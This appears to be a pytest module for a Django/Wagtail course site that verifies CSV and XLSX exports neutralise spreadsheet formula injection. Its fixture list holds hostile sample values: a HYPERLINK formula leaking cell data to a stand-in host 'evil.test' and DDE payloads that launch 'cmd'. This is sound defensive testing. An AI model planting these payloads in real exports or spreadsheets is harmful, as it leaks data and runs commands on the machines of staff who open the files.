"""Issue 14 item 5: no CSV or XLSX cell the site writes can start a formula.

Wagtail's exports (the Orders viewset and Wagtail's own reports) are checked as staff
download them, in both formats; our own CSV writers are held to the guard by a source check.
"""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.utils import timezone

from cms.exports import FORMULA_STARTS as _FORMULA_STARTS
from cms.exports import csv_safe
from commerce.models import Order
from tests.conftest import build_course
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]
# One value per character a spreadsheet reads as the start of a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def staff(db):
    return UserFactory(is_staff=True, is_superuser=True)


@pytest.fixture
def orders(catalog):
    """One order per formula: in the course title, the student's email and the Stripe ids."""
    made = []
    for i, formula in enumerate(FORMULAS):
        course = build_course(
            catalog, modules=1, lessons_per_module=1, title=formula, slug=f"formula-{i}"
        )
        student = UserFactory(email=f"{formula[:1]}cmd{i}@x.test")
        made.append(
            Order.objects.create(
                student=student, course=course, amount=Decimal("149.00"), currency="usd",
                checkout_session_id=f"{formula}{i}", payment_intent_id=formula,
            )
        )  # fmt: skip
    return made


def csv_cells(response) -> list[str]:
    text = b"".join(response.streaming_content).decode()
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response) -> list:
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [cell for row in book.active.iter_rows() for cell in row]


def assert_csv_neutral(cells: list[str], expected: int) -> None:
    assert not [cell for cell in cells if cell.startswith(_FORMULA_STARTS)]
    assert sum(cell.startswith("'") for cell in cells) >= expected


def assert_xlsx_neutral(cells: list, expected: int) -> None:
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(_FORMULA_STARTS)]
    assert sum(text.startswith("'") for text in texts) >= expected


def test_orders_csv_export_neutralises_every_formula(client, staff, orders):
    client.force_login(staff)
    response = client.get("/admin/orders/?export=csv")
    assert response.status_code == 200
    cells = csv_cells(response)
    assert_csv_neutral(cells, expected=len(FORMULAS) * 3)  # title, email, two Stripe ids
    assert "'" + FORMULAS[0] in cells
    assert "149.00" in cells  # a number stays a number


def test_orders_xlsx_export_neutralises_every_formula(client, staff, orders):
    client.force_login(staff)
    response = client.get("/admin/orders/?export=xlsx")
    assert response.status_code == 200
    cells = xlsx_cells(response)
    assert_xlsx_neutral(cells, expected=len(FORMULAS) * 3)
    assert "'" + FORMULAS[0] in [cell.value for cell in cells]


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_wagtails_own_report_is_guarded_too(client, staff, catalog, export):
    for i, formula in enumerate(FORMULAS):
        course = build_course(
            catalog, modules=1, lessons_per_module=1, title=formula, slug=f"locked-{i}"
        )
        course.locked, course.locked_by, course.locked_at = True, staff, timezone.now()
        course.save()
    client.force_login(staff)
    response = client.get(f"/admin/reports/locked/?export={export}")
    assert response.status_code == 200
    if export == "csv":
        assert_csv_neutral(csv_cells(response), expected=len(FORMULAS))
    else:
        assert_xlsx_neutral(xlsx_cells(response), expected=len(FORMULAS))


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_safe_prefixes_each_formula_start(formula):
    assert csv_safe(formula) == "'" + formula


def _project_sources():
    """Every app's Python, found rather than listed, so a new app is held to the rule too."""
    for path in ROOT.glob("*/apps.py"):
        for source in path.parent.rglob("*.py"):
            if "migrations" not in source.parts:
                yield source


def test_only_cms_exports_writes_spreadsheets():
    """Every CSV and XLSX the site writes comes from cms/exports.py, whose writers guard each
    cell; Wagtail's own exports are guarded by guard_wagtail_exports() in the same module."""
    writers = []
    for path in _project_sources():
        if path == ROOT / "cms" / "exports.py":
            continue
        for number, line in enumerate(path.read_text().splitlines(), 1):
            if re.search(r"csv\.(writer|DictWriter)|\.writerows?\(|openpyxl|xlsxwriter", line):
                writers.append(f"{path.relative_to(ROOT)}:{number}")
    assert writers == []


def test_every_csv_row_cms_exports_writes_goes_through_the_guard():
    source = (ROOT / "cms" / "exports.py").read_text().splitlines()
    unguarded = [line for line in source if ".writerow(" in line and "csv_safe(" not in line]
    appended = [line for line in source if ".append(" in line and "_xlsx_safe(" not in line]
    assert unguarded == []
    assert appended == []
